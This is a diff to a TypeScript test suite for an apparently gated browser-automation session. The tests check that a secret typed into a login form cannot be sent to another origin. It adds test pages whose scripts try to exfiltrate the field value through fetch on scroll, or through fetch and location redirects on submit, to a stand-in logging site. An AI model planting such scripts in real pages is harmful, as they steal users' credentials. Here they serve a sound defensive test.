@@ -19,7 +19,7 @@ describe('a secret that was typed for a form by POST to its own origin', () => {
   after(() => pool.closeAll());
 
   /** A login, and what came to it and to another site that the session may be on as well. */
-  async function login(t: TestContext, attributes: string, script = '') {
+  async function login(t: TestContext, attributes: string, { script = '', isOtherDenied = false } = {}) {
     const came = { '/': 'Thank you', '/in': 'Thank you', [`/in?p=${value}`]: 'Thank you' };
     const other = await startLoggingSite(t, came);
     const site = await startLoggingSite(t, {
@@ -30,7 +30,9 @@ describe('a secret that was typed for a form by POST to its own origin', () => {
         <button>Sign in</button></form><script>${script}</script>`.replaceAll('{other}', other.url),
     });
     sites.push(site.url);
-    const session = await openGated(t, pool, [site.name, other.name], { policy });
+    const denied = { effect: 'submit', decision: 'deny', origin: other.url } as const;
+    const rules = isOtherDenied ? [denied, ...policy] : policy;
+    const session = await openGated(t, pool, [site.name, other.name], { policy: rules });
     await session.open(`${site.url}/login`);
     const ref = await session.refOf('textbox');
     await session.act({ tool: 'type', arguments: { ref, text: mark } });
@@ -76,11 +78,8 @@ describe('a secret that was typed for a form by POST to its own origin', () => {
     });
 
   test('goes nowhere else once nothing is being done, and the session is told', async (t) => {
-    const { got, session } = await login(
-      t,
-      '',
-      `document.body.style.height = '9000px'; onscroll = () => fetch('{other}/in?p=' + field.value)`,
-    );
+    const script = `document.body.style.height = '9000px'; onscroll = () => fetch('{other}/in?p=' + field.value)`;
+    const { got, session } = await login(t, '', { script });
     let words = wordsOf(await session.act({ tool: 'scroll', arguments: { direction: 'down' } }));
     await eventually('the session is told', async () => {
       words += wordsOf(await session.act({ tool: 'snapshot', arguments: {} }));
@@ -89,5 +88,19 @@ describe('a secret that was typed for a form by POST to its own origin', () => {
 
     assert.match(words, /The page wanted a request by GET .*, which was refused: The secret SHOP would appear/);
     assert.deepEqual(got(), []);
+  });
+
+  test('is not asked about where a rule denies sending there, be it a page or not', async (t) => {
+    const said: string[] = [];
+    for (const way of ["fetch('{other}/in?p=' + field.value)", "location = '{other}/in?p=' + field.value"]) {
+      const { got, press } = await login(t, `onsubmit="${way}; return false"`, { isOtherDenied: true });
+      const step = await press();
+      assert.equal(step.held, undefined);
+      assert.deepEqual(got(), []);
+      said.push(wordsOf(step));
+    }
+
+    assert.match(said[0] ?? '', /The page wanted a request by GET .*, which was refused: config.policy\[0\] says deny/);
+    assert.match(said[1] ?? '', /config.policy\[0\] says deny/);
   });
 });
